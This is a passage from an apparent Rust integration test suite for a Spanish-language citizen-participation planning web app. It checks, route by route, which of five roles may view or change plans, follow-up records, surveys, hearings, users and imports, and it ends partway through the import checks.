//! The web application through its real router (no network): authorization for every
//! role and action, CSRF, sessions and login throttling, on SQLite and PostgreSQL.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt;
use participa_domain::{Role, Transition};
use participa_formats::{import_plan, ReadOptions};
use participa_store::testing::{self, TestDatabase};
use participa_store::{Acta, Actor, PlanId, Store};
use participa_web::AppState;
use tower::ServiceExt;

const SEED: &[u8] = include_bytes!("../../../seed/plan-participacion-ciudadana-2025.txt");

#[path = "../../formats/tests/bombs/mod.rs"]
mod bombs;
const PASSWORD: &str = "una clave de prueba larga";
/// The longest text any field takes (`participa_web::form::LONG_TEXT`).
const LONG_LIMIT: usize = participa_web::form::LONG_TEXT;
const ORIGIN: &str = "http://participa.test";
const HOST: &str = "participa.test";

struct TestApp {
    router: Router,
    store: Store,
    _db: TestDatabase,
    /// Where evidence files go, when a test looks at the disk.
    evidence_dir: Option<tempfile::TempDir>,
    /// Every request sent, as (method, path): the role matrix checks it reached every
    /// registered staff route.
    sent: std::sync::Mutex<Vec<(String, String)>>,
    /// The server's state, when built by [`TestApp::build`]: a change a test makes
    /// through the store stands for one this server answered, and is told to it.
    state: Option<AppState>,
}

struct Reply {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    location: Option<String>,
    cookie: Option<String>,
    body: String,
    bytes: Vec<u8>,
}

/// The text `pdftotext` (poppler-utils) reads from PDF bytes.
fn pdf_text(pdf: &[u8]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("informe.pdf");
    std::fs::write(&path, pdf).unwrap();
    let out = std::process::Command::new("pdftotext")
        .arg("-layout")
        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext (apt-get install poppler-utils; scripts/test.sh does)");
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap()
}

impl TestApp {
    async fn new(db: TestDatabase) -> TestApp {
        TestApp::with_evidence(db, None).await
    }

    /// With e-mail on: notifications and recovery links wait in the outbox.
    async fn with_mail(db: TestDatabase) -> TestApp {
        TestApp::build(db, None, true, true).await
    }

    /// With evidence on a temporary disk directory and this per-file limit.
    async fn with_evidence(db: TestDatabase, limit: Option<usize>) -> TestApp {
        TestApp::build(db, limit, false, true).await
    }

    /// With the users but without the seed plan (nothing the entity changed yet).
    async fn without_plan(db: TestDatabase) -> TestApp {
        TestApp::build(db, None, false, false).await
    }

    async fn build(db: TestDatabase, limit: Option<usize>, mail: bool, seed: bool) -> TestApp {
        let store = Store::connect(&db.url)
            .await
            .expect("connect")
            .with_identity_secret(testing::identity_secret(), false)
            .await
            .expect("identity secret");
        if seed {
            let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
            store.insert_plan(&plan, Some("seed.txt")).await.unwrap();
        }
        let hash = password_auth::generate_hash(PASSWORD);
        for (name, role, offices) in [
            ("admin", Role::Admin, &[][..]),
            ("reporter", Role::Reporter, &["ARCOM"][..]),
            ("auditor", Role::Auditor, &[][..]),
            ("approver", Role::Approver, &[][..]),
        ] {
            let full = format!("Usuario {name}");
            testing::create_user(&store, name, &full, role, offices, &hash).await;
        }
        let evidence_dir = limit.map(|_| tempfile::tempdir().unwrap());
        let evidence = match (&evidence_dir, limit) {
            (Some(dir), Some(limit)) => participa_web::EvidenceConfig {
                objects: participa_store::Objects::local(dir.path()).unwrap(),
                limit,
            },
            _ => participa_web::EvidenceConfig::default(),
        };
        let state = AppState::new(
            store.clone(),
            participa_web::Config {
                evidence,
                mail,
                ..Default::default()
            },
        );
        let router = participa_web::router(state.clone());
        TestApp {
            router,
            store,
            _db: db,
            evidence_dir,
            sent: Default::default(),
            state: Some(state),
        }
    }

    /// Tells the server that a change this test made through the store is one it
    /// answered (its cached pages are checked at the next request, as after any write it
    /// serves; a change made elsewhere is seen within a second).
    fn answered_a_write(&self) {
        if let Some(state) = &self.state {
            state
                .writes
                .fetch_add(1, std::sync::atomic::Ordering::Release);
        }
    }

    async fn send(&self, request: Request<Body>) -> Reply {
        self.sent.lock().unwrap().push((
            request.method().to_string(),
            request.uri().path().to_string(),
        ));
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let location = response
            .headers()
            .get(header::LOCATION)
            .map(|l| l.to_str().unwrap().to_string());
        let cookie = response
            .headers()
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|c| c.to_str().ok())
            .find(|c| c.starts_with("participa_sesion"))
            .map(|c| c.split(';').next().unwrap().to_string());
        let headers = response.headers().clone();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        Reply {
            status,
            headers,
            location,
            cookie,
            body: String::from_utf8_lossy(&bytes).into_owned(),
            bytes: bytes.to_vec(),
        }
    }

    async fn get(&self, path: &str, cookie: Option<&str>) -> Reply {
        let mut r = Request::get(path).header(header::HOST, HOST);
        if let Some(c) = cookie {
            r = r.header(header::COOKIE, c);
        }
        self.send(r.body(Body::empty()).unwrap()).await
    }

    async fn post(&self, path: &str, cookie: Option<&str>, form: &[(&str, &str)]) -> Reply {
        let mut r = Request::post(path)
            .header(header::HOST, HOST)
            .header(header::ORIGIN, ORIGIN)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
        if let Some(c) = cookie {
            r = r.header(header::COOKIE, c);
        }
        let body: String = form_urlencoded::Serializer::new(String::new())
            .extend_pairs(form)
            .finish();
        self.send(r.body(Body::from(body)).unwrap()).await
    }

    /// A multipart POST: text fields, then files as (field, file name, bytes).
    async fn post_files(
        &self,
        path: &str,
        cookie: Option<&str>,
        fields: &[(&str, &str)],
        files: &[(&str, &str, &[u8])],
    ) -> Reply {
        let boundary = "participa-test-boundary-7MA4YWxkTrZu0gW";
        let mut body: Vec<u8> = Vec::new();
        for (name, value) in fields {
            body.extend_from_slice(
                format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                    .as_bytes(),
            );
        }
        for (name, file, bytes) in files {
            body.extend_from_slice(
                format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"\r\nContent-Type: application/octet-stream\r\n\r\n")
                    .as_bytes(),
            );
            body.extend_from_slice(bytes);
            body.extend_from_slice(b"\r\n");
        }
        body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        let mut r = Request::post(path)
            .header(header::HOST, HOST)
            .header(header::ORIGIN, ORIGIN)
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={boundary}"),
            );
        if let Some(c) = cookie {
            r = r.header(header::COOKIE, c);
        }
        self.send(r.body(Body::from(body)).unwrap()).await
    }

    async fn login(&self, user: &str) -> String {
        let r = self
            .post(
                "/ingresar",
                None,
                &[
                    ("usuario", user),
                    ("clave", PASSWORD),
                    ("siguiente", "/admin/planes"),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "login {user}: {}", r.body);
        r.cookie.expect("a session cookie")
    }

    async fn to_status(&self, transitions: &[Transition]) {
        let system = Actor::system();
        let acta = Acta {
            number: "001".into(),
            date: chrono::NaiveDate::from_ymd_opt(2025, 1, 20).unwrap(),
        };
        for t in transitions {
            if *t == Transition::Consolidate {
                testing::accept_all_findings(&self.store, PlanId(1)).await;
            }
            self.store
                .transition(PlanId(1), *t, Some(&acta), &system)
                .await
                .unwrap();
        }
        self.answered_a_write();
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    /// 2xx, or a redirect that is not to the login page.
    Allowed,
    /// 403.
    Refused,
    /// Sent to the login page.
    SignIn,
    NotFound,
    /// Let through, and the input refused next to its fields (422).
    Invalid,
    /// Let through, and the request refused as a whole (400).
    BadInput,
}

fn outcome(r: &Reply) -> Outcome {
    match r.status.as_u16() {
        200..=299 => Outcome::Allowed,
        422 => Outcome::Invalid,
        400 => Outcome::BadInput,
        303 if r
            .location
            .as_deref()
            .is_some_and(|l| l.starts_with("/ingresar")) =>
        {
            Outcome::SignIn
        }
        303 => Outcome::Allowed,
        403 => Outcome::Refused,
        404 => Outcome::NotFound,
        other => panic!("unexpected status {other}: {}", r.body),
    }
}

fn activity_form<'a>(description: &'a str, office: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("descripcion", description),
        ("inicio", "2025-02-05"),
        ("fin", "2025-11-28"),
        ("responsables", office),
        ("entregable", "Informe"),
    ]
}

fn header_form() -> Vec<(&'static str, &'static str)> {
    vec![
        ("titulo", "Plan de Participación Ciudadana 2025"),
        ("vigencia", "2025"),
        ("politica", "Participación ciudadana en la gestión pública"),
        ("oe_codigo", "5"),
        ("oe_texto", "Objetivo estratégico"),
        ("od_codigo", "5.5"),
        ("od_texto", "Objetivo de la dependencia"),
        ("ie_codigo", "5.5.1"),
        ("ie_texto", "Iniciativa"),
        ("objetivos", "Promover la participación"),
        ("marco_legal", "Ley 1757 de 2015"),
        ("dependencias", "OAPLA | Oficina Asesora de Planeación | líder\nARCOM | Área de Comunicaciones | apoyo\nASERA | Área de Servicio al Afiliado | apoyo\nARACF | Área de Atención al Consumidor Financiero | apoyo\nARVIV | Área de Vivienda | apoyo"),
    ]
}

use Outcome::*;

/// Expected outcome per role, in the order anonymous, admin, reporter (ARCOM), auditor, approver.
type Row = (&'static str, [Outcome; 5]);

/// A form's fields as (name, value).
type Form<'a> = Vec<(&'a str, &'a str)>;

/// A request (method, path, form) with its expected outcome per role, as in [`Row`].
type RequestRow = (&'static str, &'static str, Form<'static>, [Outcome; 5]);

async fn role_matrix(db: TestDatabase, role_index: usize, user: Option<&str>) {
    let app = TestApp::new(db).await;
    participation_fixtures(&app).await;
    let cookie = match user {
        Some(u) => Some(app.login(u).await),
        None => None,
    };
    // Only the matrix's own requests count for the route coverage below.
    app.sent.lock().unwrap().clear();
    let c = cookie.as_deref();
    let mut failures = Vec::new();
    let mut check = |name: &str, expected: [Outcome; 5], r: Reply| {
        let got = outcome(&r);
        if got != expected[role_index] {
            failures.push(format!(
                "{name}: expected {:?}, got {got:?}",
                expected[role_index]
            ));
        }
    };
    let reads: [Row; 20] = [
        ("GET /", [Allowed; 5]),
        ("GET /planes/1 (unpublished)", [NotFound; 5]),
        ("GET /planes/1/datos.json (unpublished)", [NotFound; 5]),
        (
            "GET /admin/planes",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1/versiones",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1/exportar/xlsx",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/nuevo",
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET /admin/planes/importar",
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET /admin/planes/plantilla.xlsx",
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET /admin/usuarios",
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET /admin/auditoria",
            [SignIn, Allowed, Refused, Allowed, Refused],
        ),
        (
            "GET /admin/cuenta/clave",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/cuenta",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/parametros",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/festivos",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/grupos-valor",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1/cobertura",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1/seguimiento",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET /admin/planes/1/seguimiento/actividades/13",
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
    ];
    for (name, expected) in reads {
        let path = name.split(' ').nth(1).unwrap();
        check(name, expected, app.get(path, c).await);
    }
    check(
        "GET edit form of an ARCOM activity",
        [SignIn, Allowed, Allowed, Refused, Refused],
        app.get("/admin/planes/1/actividades/13/editar", c).await,
    );
    check(
        "GET edit form of an ARVIV activity",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.get("/admin/planes/1/actividades/12/editar", c).await,
    );
    check(
        "POST edit an ARCOM activity",
        [SignIn, Allowed, Allowed, Refused, Refused],
        app.post(
            "/admin/planes/1/actividades/13/editar",
            c,
            &activity_form("Redes sociales", "ARCOM"),
        )
        .await,
    );
    check(
        "POST edit an ARVIV activity",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/actividades/12/editar",
            c,
            &activity_form("Ferias de vivienda", "ARVIV"),
        )
        .await,
    );
    check(
        "POST hand an ARCOM activity to ARVIV",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/actividades/14/editar",
            c,
            &activity_form("Web", "ARVIV"),
        )
        .await,
    );
    let mut new = activity_form("Nueva", "ARCOM");
    new.push(("numero", "16"));
    check(
        "POST create an activity",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/actividades/nueva", c, &new).await,
    );
    check(
        "POST delete an ARCOM activity",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/actividades/16/eliminar", c, &[])
            .await,
    );
    check(
        "POST edit the plan header",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/editar", c, &header_form()).await,
    );
    check(
        "POST create a plan",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/nuevo", c, &{
            let mut f = header_form();
            f[0] = ("titulo", "Plan de Participación Ciudadana 2026");
            f[1] = ("vigencia", "2026");
            f
        })
        .await,
    );
    check(
        "POST create a user",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/usuarios/nuevo",
            c,
            &[
                ("usuario", "nuevo"),
                ("nombre", "Nuevo"),
                ("rol", "auditor"),
                ("activo", "si"),
            ],
        )
        .await,
    );
    check(
        "POST reset a password",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/usuarios/3/clave", c, &[]).await,
    );
    check(
        "POST change a legal parameter",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/parametros",
            c,
            &[
                ("parametro", "peticion.general"),
                ("valor", "15"),
                ("desde", "2026-01-01"),
                ("motivo", "Ley 1755 de 2015"),
            ],
        )
        .await,
    );
    check(
        "POST a corrected FURAG questionnaire",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/furag/cuestionario",
            c,
            &[("cuestionario", "PCI200\tEstrategias\n")],
        )
        .await,
    );
    check(
        "POST add a holiday",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/festivos",
            c,
            &[
                ("accion", "agregar"),
                ("fecha", "2026-12-24"),
                ("nombre", "Nochebuena"),
                ("motivo", "Prueba"),
            ],
        )
        .await,
    );
    check(
        "POST a group of value",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/grupos-valor",
            c,
            &[
                ("codigo", "gremios"),
                ("nombre", "Gremios"),
                ("grupo_furag", "Sector privado"),
            ],
        )
        .await,
    );
    check(
        "POST follow-up settings",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/seguimiento/configuracion",
            c,
            &[
                ("frecuencia", "trimestral"),
                ("riesgo", "10"),
                ("atraso", "25"),
            ],
        )
        .await,
    );
    check(
        "POST close a follow-up period",
        [SignIn, Refused, Refused, Allowed, Refused],
        app.post(
            "/admin/planes/1/seguimiento/periodos/3/cerrar",
            c,
            &[("confirmar", "si")],
        )
        .await,
    );
    let pending = app.store.coverage(PlanId(1)).await.unwrap().pending();
    check(
        "POST accept a coverage finding",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/cobertura/aceptar",
            c,
            &[
                ("codigo", pending[0].as_str()),
                ("justificacion", "Se corrige en la próxima versión"),
            ],
        )
        .await,
    );
    let suggestible = app
        .store
        .coverage(PlanId(1))
        .await
        .unwrap()
        .items
        .into_iter()
        .find(|i| i.acceptance.is_none() && i.finding.suggested.is_some())
        .map(|i| i.finding.code)
        .expect("a gap an activity covers");
    check(
        "POST create the activity a coverage finding suggests",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            "/admin/planes/1/cobertura/actividad",
            c,
            &[("codigo", suggestible.as_str())],
        )
        .await,
    );
    testing::accept_all_findings(&app.store, PlanId(1)).await;
    check(
        "POST consolidate",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/estado", c, &[("accion", "consolidar")])
            .await,
    );
    let state = app.store.plan_state(PlanId(1)).await.unwrap().status;
    if state == participa_domain::PlanStatus::Draft {
        app.to_status(&[Transition::Consolidate]).await;
    }
    check(
        "POST review",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/estado", c, &[("accion", "revisar")])
            .await,
    );
    if app.store.plan_state(PlanId(1)).await.unwrap().status
        == participa_domain::PlanStatus::Consolidated
    {
        app.to_status(&[Transition::Review]).await;
    }
    check(
        "POST approve",
        [SignIn, Refused, Refused, Refused, Allowed],
        app.post(
            "/admin/planes/1/estado",
            c,
            &[
                ("accion", "aprobar"),
                ("acta_numero", "7"),
                ("acta_fecha", "2025-01-28"),
            ],
        )
        .await,
    );
    if app.store.plan_state(PlanId(1)).await.unwrap().status
        == participa_domain::PlanStatus::Reviewed
    {
        app.to_status(&[Transition::Approve]).await;
    }
    check(
        "POST publish",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/planes/1/estado", c, &[("accion", "publicar")])
            .await,
    );
    if app.store.plan_state(PlanId(1)).await.unwrap().status
        == participa_domain::PlanStatus::Approved
    {
        app.to_status(&[Transition::Publish]).await;
    }
    check(
        "GET /planes/1 (published)",
        [Allowed; 5],
        app.get("/planes/1", c).await,
    );
    check(
        "GET /planes/1/datos.csv (published)",
        [Allowed; 5],
        app.get("/planes/1/datos.csv", c).await,
    );
    check(
        "POST edit the published plan with a reason",
        [SignIn, Allowed, Allowed, Refused, Refused],
        app.post("/admin/planes/1/actividades/15/editar", c, &{
            let mut f = activity_form("Sitio web", "ARCOM");
            f.push(("motivo", "Ajuste"));
            f
        })
        .await,
    );
    // Participation, follow-up writes and the remaining staff pages, on the fixtures of
    // `participation_fixtures` (hearing 1 with question 1, survey 1, forum 2 with topic 1
    // and comment 1, suggestion 1).
    let more: [RequestRow; 64] = [
        (
            "GET",
            "/admin/nacional",
            vec![],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            "GET",
            "/admin/nacional/datos.csv",
            vec![],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            "GET",
            "/admin/notificaciones",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/notificaciones/999999",
            vec![],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            "POST",
            "/admin/notificaciones/leidas",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/notificaciones/correo",
            vec![("correo", "no")],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/planes/1/seguimiento/periodos/2/cerrar",
            vec![],
            [SignIn, Refused, Refused, Allowed, Refused],
        ),
        (
            "GET",
            "/admin",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/seguimiento",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/planes/",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/cuenta/clave",
            vec![
                ("actual", "no es la clave"),
                ("nueva", "otra clave de prueba larga"),
                ("repetir", "otra clave de prueba larga"),
            ],
            [SignIn, Invalid, Invalid, Invalid, Invalid],
        ),
        (
            "GET",
            "/admin/planes/1/editar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/planes/1/versiones/diferencias?desde=1&hasta=1",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/planes/1/actividades/nueva",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/planes/1/seguimiento/pesos",
            vec![("peso_1", "abc")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/planes/1/seguimiento/actividades/13/estado",
            vec![("estado", "reprogramada"), ("justificacion_estado", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/planes/1/seguimiento/actividades/13/indicadores",
            vec![("nombre_indicador", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/planes/1/seguimiento/actividades/13/revision",
            vec![],
            [SignIn, Refused, Refused, BadInput, Refused],
        ),
        (
            "GET",
            "/admin/evidencias/999",
            vec![],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            // Who may publish which file is in the public plan page's test: here, an
            // unknown file is not found for every role.
            "POST",
            "/admin/evidencias/999/visibilidad",
            vec![("publica", "si"), ("sin_datos_personales", "si")],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            "GET",
            "/admin/planes/1/informes/plan.pdf",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/planes/1/informes/seguimiento/1.xlsx",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/informes/sugerencias/informe.xlsx",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/informes/otro/informe.pdf",
            vec![],
            [SignIn, NotFound, NotFound, NotFound, NotFound],
        ),
        (
            "GET",
            "/admin/consultas/1/informe/informe.xlsx",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/informes/eventos/publicacion",
            vec![("accion", "retirar")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/informe/publicacion",
            vec![("accion", "retirar")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/usuarios/nuevo",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/usuarios/3",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/usuarios/3",
            vec![
                ("nombre", "Usuario auditor"),
                ("rol", "auditor"),
                ("activo", "si"),
            ],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/sugerencias",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/sugerencias/1",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/sugerencias/1",
            vec![("estado", "en_tramite"), ("respuesta", "")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/consultas",
            vec![("titulo", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/1",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/consultas/1/vista-previa",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/consultas/1/preguntas",
            vec![("texto", ""), ("tipo", "unica")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/resultados",
            vec![("publicos", "si")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/1/respuestas.csv",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/consultas/1/respuestas.xlsx",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/consultas/2/temas",
            vec![("titulo", " ")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/2/comentarios.csv",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/consultas/2/moderacion",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/consultas/2/comentarios/1",
            vec![("accion", "publicar")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/audiencias",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/audiencias",
            vec![("titulo", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/audiencias/1",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "GET",
            "/admin/audiencias/1/informe.pdf",
            vec![],
            [SignIn, Allowed, Allowed, Allowed, Allowed],
        ),
        (
            "POST",
            "/admin/audiencias/1/preguntas/1",
            vec![("respuesta", "Se programó para mayo.")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/audiencias/1/evaluacion",
            vec![("cierra", "2025-08-30")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        // The builders (issue 14, item 6): survey 1 has question 1 and no answer;
        // survey 3 is a draft with a question.
        (
            "GET",
            "/admin/audiencias/1/editar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/audiencias/1/editar",
            vec![("titulo", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/1/editar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/editar",
            vec![("titulo", "")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/1/preguntas/1",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/preguntas/1",
            vec![("texto", ""), ("tipo", "texto")],
            [SignIn, Invalid, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/preguntas/1/mover",
            vec![("a", "1")],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "GET",
            "/admin/consultas/1/preguntas/1/eliminar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/1/preguntas/1/eliminar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        ("GET", "/consultas/3", vec![], [NotFound; 5]),
        (
            "POST",
            "/admin/consultas/3/anunciar",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
        (
            "POST",
            "/admin/consultas/3/abrir",
            vec![],
            [SignIn, Allowed, Refused, Refused, Refused],
        ),
    ];
    for (method, path, form, expected) in more {
        let reply = if method == "GET" {
            app.get(path, c).await
        } else {
            app.post(path, c, &form).await
        };
        check(&format!("{method} {path}"), expected, reply);
    }
    check(
        "GET /admin/eventos",
        [SignIn, Allowed, Allowed, Allowed, Allowed],
        app.get("/admin/eventos", c).await,
    );
    check(
        "POST an event without a title",
        [SignIn, Invalid, Invalid, Refused, Refused],
        app.post_files(
            "/admin/eventos",
            c,
            &[("titulo", ""), ("actividad", "1:13")],
            &[],
        )
        .await,
    );
    check(
        "GET /admin/canales",
        [SignIn, Allowed, Allowed, Allowed, Allowed],
        app.get("/admin/canales", c).await,
    );
    check(
        "POST channel figures without a file",
        [SignIn, Invalid, Invalid, Refused, Refused],
        app.post_files(
            "/admin/canales",
            c,
            &[("canal", "web"), ("actividad", "1:13")],
            &[],
        )
        .await,
    );
    check(
        "POST a progress report on an ARCOM activity without a percent",
        [SignIn, Invalid, Invalid, Refused, Refused],
        app.post_files(
            "/admin/planes/1/seguimiento/actividades/13/avance",
            c,
            &[("periodo", "1")],
            &[],
        )
        .await,
    );
    check(
        "POST a plan file that is not a plan",
        [SignIn, Invalid, Refused, Refused, Refused],
        app.post_files(
            "/admin/planes/importar",
            c,
            &[],
            &[("archivo", "plan.tsv", b"no es un plan")],
        )
        .await,
    );
    // An upload waiting in the admin's import preview.
    let admin_id = app
        .store
        .user_for_login("admin")
        .await
        .unwrap()
        .unwrap()
        .0
        .id;
    let waiting = app
        .store
        .stash_import(admin_id, "plan.tsv", SEED)
        .await
        .unwrap();
    let preview = format!("/admin/planes/importar/{waiting}");
    check(
        "GET the import preview",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.get(&preview, c).await,
    );
    check(
        "POST the columns chosen in the import preview",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(
            &format!("{preview}/columnas"),
            c,
            &[("titulo_0", "Actividades"), ("campo_0", "1")],
        )
        .await,
    );
    check(
        "POST import the previewed file over plan 1",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(&format!("{preview}/version"), c, &[("plan", "1")])
            .await,
    );
    // The import over plan 1 used that upload: another one for the plain import.
    let waiting = app
        .store
        .stash_import(admin_id, "plan.tsv", SEED)
        .await
        .unwrap();
